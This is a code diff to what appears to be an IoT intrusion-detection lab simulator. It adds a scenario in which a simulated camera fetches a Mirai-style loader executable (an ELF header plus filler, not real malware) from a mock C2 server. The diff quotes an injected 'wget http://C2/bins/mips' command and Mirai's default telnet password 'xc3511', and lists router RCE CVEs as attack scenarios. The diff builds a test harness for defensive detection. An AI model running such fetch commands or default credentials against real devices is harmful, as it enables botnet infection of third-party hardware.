@@ -47,6 +47,9 @@ NTP_SERVER = "203.0.113.123"
 C2_SERVER = "198.51.100.66"
 ATTACKER = "198.51.100.99"
 INTERNET_ADDRESSES = (CLOUD, DNS_SERVER, NTP_SERVER, C2_SERVER, ATTACKER)
+LOADER_BINARY = b"\x7fELF\x01\x02\x01\x00" + bytes(8) + b"\x00\x02\x00\x08" + bytes(range(256)) * 16
+"""What the C2 serves under /bins/: a big-endian MIPS executable's header and
+4 KiB of filler, as a Mirai loader serves its per-architecture binaries."""
 ROUTER_MAC = "02:00:00:00:01:01"
 DEVICE_TELNET_PASSWORD = "xc3511"  # the plug ships Mirai's favourite default
 
@@ -323,9 +326,9 @@ class CameraHandler(_Quiet, BaseHTTPRequestHandler):
     """Admin page of a cheap IP camera; its CGI 'runs' whatever it is given."""
     protocol_version = "HTTP/1.1"
 
-    def _reply(self, body: bytes, status: int = 200) -> None:
+    def _reply(self, body: bytes, status: int = 200, content_type: str = "text/html") -> None:
         self.send_response(status)
-        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Type", content_type)
         self.send_header("Content-Length", str(len(body)))
         self.end_headers()
         self.wfile.write(body)
@@ -346,7 +349,10 @@ class CloudHandler(CameraHandler):
     """Vendor cloud / C2: answers anything."""
 
     def do_GET(self) -> None:  # noqa: N802
-        self._reply(b"payload" if "mirai" in self.path else b"ok")
+        if self.path.startswith("/bins/"):
+            self._reply(LOADER_BINARY, content_type="application/octet-stream")
+        else:
+            self._reply(b"payload" if "mirai" in self.path else b"ok")
 
 
 class _LabHttpServer(ThreadingHTTPServer):
@@ -527,22 +533,26 @@ def _thermostat_mqtt() -> None:
 
 def _http_request(host: str, port: int, method: str, path: str, body: bytes = b"",
                   timeout: float = 3.0, source: str | None = None) -> dict:
+    """`executable`: whether any byte of the answer was an executable's start
+    (the ELF magic), also when the answer never completed."""
+    data = b""
     try:
         with socket.create_connection((host, port), timeout=timeout,
                                       source_address=(source, 0) if source else None) as sock:
             head = (f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: lab\r\n"
                     f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n").encode()
             sock.sendall(head + body)
-            data = b""
             while True:
                 chunk = sock.recv(4096)
                 if not chunk:
                     break
                 data += chunk
         status = int(data.split(b" ", 2)[1]) if data.startswith(b"HTTP/") else 0
-        return {"ok": status == 200, "status": status}
+        result = {"ok": status == 200, "status": status}
     except (OSError, ValueError, IndexError) as exc:
-        return {"ok": False, "error": type(exc).__name__}
+        result = {"ok": False, "error": type(exc).__name__}
+    result["executable"] = b"\x7fELF" in data
+    return result
 
 
 def _dns_query(server: str, name: str) -> dict:
@@ -670,6 +680,9 @@ def act(action: str, args: list[str]) -> dict:
                              source=ATTACKER)
     if action == "keepalive-inject":
         return _keepalive_then_inject(args[0], ATTACKER)
+    if action == "loader":
+        # What an injected `wget http://C2/bins/mips` makes the camera do.
+        return _http_request(C2_SERVER, 80, "GET", "/bins/mips")
     if action == "telnet-scan":
         # An infected device sweeping the internet for telnet.
         opened = 0
@@ -710,6 +723,7 @@ SCENARIO = (
     ("attack", "Huawei HG532 RCE CVE-2017-17215", "inet", "huawei", ("192.0.2.10",)),
     ("attack", "Realtek SDK RCE CVE-2014-8361", "inet", "realtek", ("192.0.2.10",)),
     ("attack", "infected camera scans the internet for telnet", "cam", "telnet-scan", ()),
+    ("attack", "camera fetches a loader's executable (ELF) from the C2", "cam", "loader", ()),
 )
 """(kind, what the console says, namespace role, `act` action, its arguments)."""
 
@@ -717,7 +731,7 @@ DEMO_DURATION = 20.0
 """Seconds of background device traffic at the end of `reefguard lab` without
 --web, so that `make demo` finishes on its own (about a minute in all)."""
 
-ATTACK_SOURCES = {"telnet-scan": "192.0.2.10"}
+ATTACK_SOURCES = {"telnet-scan": "192.0.2.10", "loader": C2_SERVER}
 """Source address of an attack's alerts when it is not the internet attacker."""
 
 
@@ -726,6 +740,8 @@ def _attack_succeeded(action: str, result: dict) -> bool:
         return bool(result.get("shell"))
     if action == "telnet-scan":
         return False  # judged by the alert
+    if action == "loader":
+        return bool(result.get("executable"))   # any byte of it reached the camera
     return bool(result.get("ok"))
 
 
